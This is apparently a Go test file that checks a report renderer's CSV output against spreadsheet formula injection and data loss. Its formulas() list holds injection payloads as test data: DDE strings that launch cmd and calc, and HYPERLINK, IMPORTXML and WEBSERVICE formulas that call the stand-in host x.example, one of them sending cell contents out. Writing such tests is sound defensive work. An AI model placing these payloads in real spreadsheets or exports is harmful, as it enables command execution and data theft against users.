package render_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/enshu/enshu/server/render"
	"github.com/enshu/enshu/sim/report"
	"github.com/enshu/enshu/sim/text"
)

// formulas are what spreadsheets compute, fetch or run, behind whatever they pass over at a cell's beginning.
func formulas() (list []string) {
	for _, body := range []string{
		"1+1", "SUM(A1:A9)", `HYPERLINK("http://x.example?"&A1,"y")`, `IMPORTXML("http://x.example","//a")`, `WEBSERVICE("http://x.example")`,
		"cmd|'/c calc'!A1", `DDE("cmd";"/c calc";"x")`, "1;2,3\t4", `"x"`, "A1\r\n=2",
	} {
		for _, start := range []string{"=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "−", "=-+@"} {
			for _, ahead := range []string{"", " ", "\"", "'", "\u3000", "x;", "\n"} {
				list = append(list, ahead+start+body)
			}
		}
	}
	return list
}

// A thousand cells and more: none begins as a formula does (which is openpyxl's rule, and the wider one of spreadsheets),
// however its lines are cut. Read as RFC 4180 says, each holds what the same paper holds as JSON, once Plain has taken off
// what Harmless put on.
func TestAThousandCellsHoldNoFormulaAndLoseNothing(t *testing.T) {
	cells := append(corpus(t), formulas()...)
	table := &report.Table{ID: "cells", Columns: []report.Column{{ID: "n", Title: text.Same("n")}, {ID: "cell", Title: text.Same("cell")}}}
	for i, c := range cells {
		table.Rows = append(table.Rows, []report.Cell{{Text: text.Same(fmt.Sprint("cell-", i))}, {Text: text.Same(c)}})
	}
	x := report.Report{Kind: report.AAR, Title: text.Same("t"), Subject: text.Same("s"), Session: "r-1", Sections: []report.Section{
		{ID: "s", Title: text.Same("s"), Blocks: []report.Block{{Table: table}}},
	}}
	raw := write(t, x, render.English, render.CSV)
	checkCSV(t, raw)

	var kept struct {
		Sections []struct {
			Blocks []struct {
				Table *struct{ Rows [][]struct{ Text string } }
			}
		}
	}
	require.NoError(t, json.Unmarshal([]byte(write(t, x, render.English, render.JSON)), &kept))
	rows := kept.Sections[0].Blocks[0].Table.Rows
	require.Len(t, rows, len(cells))
	in := csv.NewReader(bytes.NewReader([]byte(strings.TrimPrefix(raw, "\uFEFF"))))
	in.FieldsPerRecord = -1
	lines, err := in.ReadAll()
	require.NoError(t, err)
	read := 0
	for _, l := range lines {
		if len(l) != 2 || l[0] != fmt.Sprint("cell-", read) {
			continue
		}
		require.Equal(t, rows[read][1].Text, render.Plain(l[1]), l[0])
		read++
	}
	require.Len(t, cells, read)
	require.Equal(t, 1441, read)
	t.Logf("board: T12 cells that begin a formula, or lost something: 0 of %d", read)
}
